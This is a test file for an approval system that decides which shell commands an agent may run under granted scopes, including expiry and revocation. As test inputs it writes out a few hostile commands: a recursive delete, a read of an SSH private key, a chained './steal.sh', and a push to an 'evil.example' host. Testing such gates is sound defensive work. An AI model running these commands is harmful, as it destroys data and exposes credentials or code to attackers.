import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { cardOf, OWNER, openTestHome, questionOf, type TestHome } from '../../test/helpers/approvals.ts';
import { createRedactor } from '../kernel/redaction/index.ts';
import { assessCommand, decide, type PolicyConfig } from '../policy/index.ts';
import { answeringGrants } from './grant-answer.ts';
import { offerGrants } from './grant-offers.ts';
import type { ApprovalRecord, Decider, Grant, GrantScope } from './types.ts';

const TERMINAL: Decider = { channel: 'terminal', who: 'me' };
const NOTHING: PolicyConfig = { classes: {}, deny: [], prompt: [], allow: [] };
const redactor = createRedactor();

const assess = (text: string) =>
  assessCommand(text, {
    cwd: '/w',
    home: '/home/u',
    workspaces: ['/w'],
    facts: { realpath: (path) => path, which: (name) => `/usr/bin/${name}` },
  });

const offersFor = (text: string): readonly GrantScope[] => {
  const assessment = assess(text);
  return offerGrants({ assessment, decision: decide(assessment, NOTHING), command: { digest: `sha256:${text}`, text } }, redactor);
};

/** A Grant as it would have been made of a yes to this. */
function grantFor(text: string, type: GrantScope['type']): Grant {
  const scope = offersFor(text).find((one) => one.type === type);
  if (scope === undefined) throw new Error(`no ${type} is offered for ${text}`);
  const { opens } = decide(assess(text), NOTHING);
  return { id: `grt_${type}`, scope, opens, agent: 'a', workspace: '/w', made_at: 0, made_by: TERMINAL, expires_at: 1 };
}

function answers(text: string, grants: readonly Grant[], { tainted = false, policy = NOTHING } = {}): boolean {
  const assessment = assess(text);
  const decision = decide(assessment, policy);
  expect(decision.verdict).toBe('prompt');
  return answeringGrants({ assessment, policy, decision, grants, command_digest: `sha256:${text}`, tainted }) !== undefined;
}

describe('what is offered', () => {
  test('mildest first, and each that says what it is about', () => {
    expect(offersFor('npm ci').map(({ type }) => type)).toEqual(['command', 'program']);
    expect(offersFor('npm ci')[1]).toEqual({ type: 'program', argv: ['npm', 'ci'] });
    expect(offersFor('curl https://example.com/x').map(({ type }) => type)).toEqual(['command', 'host']);
    expect(offersFor('touch /srv/data')).toContainEqual({ type: 'path', path: '/srv/data', access: 'write' });
  });

  test.each([
    ['destructive', 'rm -rf /srv/data'],
    ['credential_access', 'cat ~/.ssh/id_rsa'],
    ['unknown', 'curl https://example.com | xyzzy-unknown'],
    ['uncontained', 'sudo apt-get install x'],
  ])('nothing for %s', (_, text) => {
    expect(offersFor(text)).toEqual([]);
  });
});

describe('what is answered', () => {
  test('exactly that command', () => {
    const grants = [grantFor('curl https://example.com/x', 'command')];
    expect([answers('curl https://example.com/x', grants), answers('curl https://example.com/y', grants)]).toEqual([true, false]);
  });

  test('that program with what follows, opening no more than was agreed to', () => {
    const grants = [grantFor('git push https://github.com/a/b', 'program')];
    expect(answers('git push https://github.com/a/b main', grants)).toBe(true);
    expect(answers('git push https://evil.example/a/b', grants)).toBe(false);
    expect(answers('git fetch https://github.com/a/b', grants)).toBe(false);
    expect(answers('git push https://github.com/a/b && curl https://github.com', grants)).toBe(false);
  });

  test('that program, but no other code beside it that would have its network', () => {
    const grants = [grantFor('npm ci', 'program')];
    expect(answers('npm ci --no-audit 2>&1 | tail -5', grants)).toBe(true);
    expect(answers('npm ci && npm test', grants)).toBe(false);
    expect(answers('npm ci; ./steal.sh', grants)).toBe(false);
  });

  test('that host for any program, and no other host', () => {
    const grants = [grantFor('curl https://example.com/x', 'host')];
    expect(answers('wget https://example.com/y', grants)).toBe(true);
    expect(answers('curl https://example.com/y https://other.example/', grants)).toBe(false);
    expect(answers('curl https://example.com/y; touch /srv/data', grants)).toBe(false);
  });

  test('that path, and several Grants together', () => {
    const grants = [grantFor('touch /srv/data', 'path'), grantFor('curl https://example.com', 'host')];
    expect(answers('touch /srv/data', grants)).toBe(true);
    expect(answers('touch /srv/other', grants)).toBe(false);
    expect(answers('curl https://example.com > /srv/data', grants)).toBe(true);
  });

  test('no rule that asks, but for exactly that command', () => {
    const policy: PolicyConfig = { ...NOTHING, prompt: [{ argv: ['npm', '**'] }] };
    expect(answers('npm ci', [grantFor('npm ci', 'program')], { policy })).toBe(false);
    expect(answers('npm ci', [grantFor('npm ci', 'command')], { policy })).toBe(true);
  });

  test('in a tainted Run nothing of the network, of installs and of what stays', () => {
    const all = [grantFor('curl https://example.com', 'command'), grantFor('npm ci', 'program'), grantFor('touch /srv/data', 'path')];
    expect(answers('curl https://example.com', all, { tainted: true })).toBe(false);
    expect(answers('npm ci', all, { tainted: true })).toBe(false);
    expect(answers('touch /srv/data', all, { tainted: true })).toBe(true);
  });
});

describe('kept', () => {
  let place: TestHome;
  beforeAll(() => {
    place = openTestHome();
  });
  beforeEach(() => place.forget());
  afterAll(() => place.dispose());

  const scope: GrantScope = { type: 'host', host: 'example.com' };
  const approved = async (approvals: ReturnType<TestHome['another']>['approvals'], digest = 'sha256:1'): Promise<ApprovalRecord> => {
    const { record } = await approvals.open(questionOf({ digest, card: cardOf({ grants: [scope] }) }));
    await approvals.answer(record.id, { decision: 'approve' }, TERMINAL);
    return (await approvals.get(record.id)) ?? record;
  };

  test('seen by every process, for this agent here only, until it is revoked', async () => {
    const [one, two] = [place.another(), place.another()];
    const grant = await one.grants.make(await approved(one.approvals), scope, 60_000, TERMINAL);
    expect(await two.grants.active(OWNER)).toEqual([grant]);
    expect(await two.grants.active({ ...OWNER, agent: 'agent_other' })).toEqual([]);
    expect(await two.grants.active({ ...OWNER, workspace: '/other' })).toEqual([]);
    expect(await two.grants.revoke(grant.id, TERMINAL)).toMatchObject({ id: grant.id });
    expect(await two.grants.revoke(grant.id, TERMINAL)).toBeUndefined();
    expect([await one.grants.active(OWNER), await one.grants.list({ active: true })]).toEqual([[], []]);
    expect(await one.grants.list()).toMatchObject([{ id: grant.id, revoked_at: place.time.now() }]);
    const grantEvents = place.events.filter(({ type }) => type.startsWith('grant.')).map(({ type }) => type);
    expect(grantEvents).toEqual(['grant.made', 'grant.revoked']);
  });

  test('over when its time is, and not back when the clock is set back', async () => {
    const { approvals, grants } = place.another();
    await grants.make(await approved(approvals), scope, 60_000, TERMINAL);
    place.time.pass(60_000);
    expect(await grants.active(OWNER)).toEqual([]);
    place.time.set(-30_000);
    expect(await grants.list({ active: true })).toEqual([]);
    expect(await grants.active(OWNER)).toEqual([]);
    place.time.set(-3_600_000);
    expect(await grants.active(OWNER)).toEqual([]);
  });

  test('made only of a yes, of what its card offers, for a while, by the operator', async () => {
    const { approvals, grants } = place.another();
    const { record: pending } = await approvals.open(questionOf({ digest: 'sha256:2', card: cardOf({ grants: [scope] }) }));
    const yes = await approved(approvals);
    for (const [of, what, ttl, by] of [
      [pending, scope, 60_000, TERMINAL],
      [yes, { type: 'host', host: 'other.example' }, 60_000, TERMINAL],
      [yes, scope, 31 * 86_400_000, TERMINAL],
      [yes, scope, Number.NaN, TERMINAL],
      [yes, scope, 60_000, { channel: 'elicitation', who: 'host' }],
    ] as const) {
      await expect(grants.make(of, what, ttl, by)).rejects.toMatchObject({ code: 'invalid_arguments' });
    }
    expect(await grants.list()).toEqual([]);
  });
});
